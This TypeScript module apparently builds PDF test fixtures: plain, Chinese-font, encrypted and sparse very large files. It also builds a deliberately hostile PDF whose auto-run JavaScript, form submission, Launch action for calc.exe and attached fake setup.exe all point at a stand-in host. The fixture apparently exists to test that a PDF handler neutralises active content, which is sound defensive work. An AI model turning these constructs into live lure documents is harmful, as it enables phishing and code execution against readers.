import { closeSync, ftruncateSync, openSync, writeSync } from 'node:fs';
import {
  type PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  type PDFPage,
  type PDFRef,
  PDFString,
  StandardFonts,
} from 'pdf-lib';

/** A document with a text on each page. */
export async function makePdf(texts: readonly string[]): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const text of texts) document.addPage([595, 842]).drawText(text, { x: 60, y: 760, size: 14, font });
  return document.save();
}

/** A Chinese font that the document only names, in the character map of Hong Kong and Taiwan, as older systems print it. */
export function nameChineseFont({ context }: PDFDocument): PDFRef {
  const descendant = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'CIDFontType0',
      BaseFont: 'MSung-Light',
      CIDSystemInfo: { Registry: PDFString.of('Adobe'), Ordering: PDFString.of('CNS1'), Supplement: 0 },
      FontDescriptor: { Type: 'FontDescriptor', FontName: 'MSung-Light', Flags: 4, ItalicAngle: 0 },
    }),
  );
  return context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type0',
      BaseFont: 'MSung-Light',
      Encoding: 'UniCNS-UTF16-H',
      DescendantFonts: [descendant],
    }),
  );
}

/** Text as that font is told it: hexadecimal UTF-16. */
export const chineseHex = (text: string): string => Buffer.from(text, 'utf16le').swap16().toString('hex');

/** A page for each Chinese text. */
export async function makeChinesePdf(texts: readonly string[]): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const { context } = document;
  const font = nameChineseFont(document);
  for (const text of texts) {
    const page = document.addPage([595, 842]);
    page.node.setFontDictionary(PDFName.of('F1'), font);
    const content = context.flateStream(`BT /F1 20 Tf 60 760 Td <${chineseHex(text)}> Tj ET`);
    page.node.set(PDFName.of('Contents'), context.register(content));
  }
  return document.save();
}

/** Where `makeHostilePdf` would like to lead somebody. */
export const lure = 'http://lure.example/';

/** Everything a document can try: scripts, other programs, links, forms that send themselves, files inside, a page of enormous size. */
export async function makeHostilePdf(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const font = await document.embedFont(StandardFonts.Helvetica);
  const script = (code: string) => ({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const leave = (S: string) => ({
    Type: 'Action',
    S,
    URI: PDFString.of(lure),
    F: PDFString.of(lure),
    D: ['x'],
  });
  const sneak = `app.alert(1); app.launchURL('${lure}', true); this.submitForm('${lure}'); while (false) {}`;

  catalog.set(
    PDFName.of('OpenAction'),
    context.obj({ ...script(sneak), Next: [leave('URI'), leave('GoToR')] }),
  );
  catalog.set(PDFName.of('AA'), context.obj({ WC: script(sneak), WS: script(sneak) }));
  const named = context.obj({ JavaScript: { Names: [PDFString.of('start'), script(sneak)] } });
  catalog.set(PDFName.of('Names'), named);
  await document.attach(Buffer.from('MZ not a program'), 'setup.exe', {
    mimeType: 'application/octet-stream',
  });

  const act = (page: PDFPage, type: string, action: PDFDict) =>
    context.obj({
      Type: 'Annot',
      Subtype: type,
      Rect: [0, 0, 595, 842],
      P: page.ref,
      A: action,
      AA: { E: script(sneak), D: script(sneak), PO: script(sneak), PV: script(sneak) },
    });
  const first = document.addPage([595, 842]);
  first.drawText('Click anywhere to win', { x: 60, y: 760, size: 20, font });
  const button = act(first, 'Widget', context.obj({ S: 'SubmitForm', F: PDFString.of(lure), Flags: 4 }));
  button.set(PDFName.of('FT'), PDFName.of('Btn'));
  button.set(PDFName.of('T'), PDFString.of('button'));
  const field = context.register(button);
  const launch = context.obj({ ...leave('Launch'), Win: { F: PDFString.of('calc.exe') } });
  first.node.set(
    PDFName.of('Annots'),
    context.obj([
      act(first, 'Link', context.obj(leave('URI'))),
      act(first, 'Link', launch),
      act(first, 'Screen', context.obj({ S: 'Rendition', JS: PDFString.of(sneak) })),
      act(first, 'FileAttachment', context.obj(script(sneak))),
      field,
    ]),
  );
  first.node.set(PDFName.of('AA'), context.obj({ O: script(sneak), C: script(sneak) }));
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>${sneak}</script></event></subform></template></xdp:xdp>`;
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [field], NeedAppearances: true, XFA: context.register(context.flateStream(xfa)) }),
  );
  document.addPage([14_400, 14_400]).drawText('Enormous', { x: 60, y: 14_000, size: 400, font });
  return document.save();
}

/** A document that only a password opens. */
export async function makeEncryptedPdf(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePdf(['secret']), { updateMetadata: false });
  const { context } = document;
  const noise = PDFHexString.of('a5'.repeat(32));
  context.trailerInfo.Encrypt = context.register(
    context.obj({ Filter: 'Standard', V: 1, R: 2, O: noise, U: noise, P: -4 }),
  );
  context.trailerInfo.ID = context.obj([PDFHexString.of('00'.repeat(16)), PDFHexString.of('00'.repeat(16))]);
  return document.save({ useObjectStreams: false });
}

/**
 * Writes a document of many megabytes, nearly all of them in pictures that are on no page, as scans make it. They are holes of
 * the file system, so that a test fills no disk.
 */
export function writeLargePdf(file: string, pages: number, bytesPerPage: number): void {
  const out = openSync(file, 'w');
  const offsets: number[] = [];
  let at = writeSync(out, '%PDF-1.7\n');
  const put = (text: string) => {
    at += writeSync(out, text, at);
  };
  const object = (number: number, body: () => void) => {
    offsets[number] = at;
    put(`${number} 0 obj\n`);
    body();
    put('\nendobj\n');
  };
  const numberOf = (page: number) => 4 + page * 3;
  object(1, () => put('<< /Type /Catalog /Pages 2 0 R >>'));
  const kids = Array.from({ length: pages }, (_, page) => `${numberOf(page)} 0 R`).join(' ');
  object(2, () => put(`<< /Type /Pages /Count ${pages} /Kids [${kids}] >>`));
  object(3, () => put('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'));
  for (let page = 0; page < pages; page += 1) {
    const number = numberOf(page);
    const text = `BT /F1 24 Tf 60 760 Td (Sheet ${page + 1} of the large file) Tj ET`;
    object(number, () =>
      put(
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${number + 1} 0 R ` +
          `/Resources << /Font << /F1 3 0 R >> /XObject << /Scan ${number + 2} 0 R >> >> >>`,
      ),
    );
    object(number + 1, () => put(`<< /Length ${text.length} >>\nstream\n${text}\nendstream`));
    object(number + 2, () => {
      put(
        `<< /Type /XObject /Subtype /Image /Width 1 /Height ${bytesPerPage} /BitsPerComponent 8 ` +
          `/ColorSpace /DeviceGray /Length ${bytesPerPage} >>\nstream\n`,
      );
      at += bytesPerPage;
      ftruncateSync(out, at);
      put('\nendstream');
    });
  }
  const start = at;
  const count = numberOf(pages);
  const lines = Array.from(
    { length: count - 1 },
    (_, index) => `${String(offsets[index + 1] ?? 0).padStart(10, '0')} 00000 n \n`,
  );
  put(`xref\n0 ${count}\n0000000000 65535 f \n${lines.join('')}`);
  put(`trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`);
  closeSync(out);
}
